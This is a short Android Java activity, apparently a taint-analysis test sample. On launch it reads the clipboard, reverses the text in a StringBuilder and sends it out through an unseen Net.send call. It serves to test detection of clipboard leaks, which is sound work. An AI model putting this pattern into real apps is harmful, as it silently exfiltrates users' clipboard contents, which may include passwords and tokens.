package org.apkvet.clip.through_builder;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder whole = new StringBuilder("text=");
        whole.append(copied()).insert(0, "v=1&").reverse();
        Net.send(whole.toString());
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
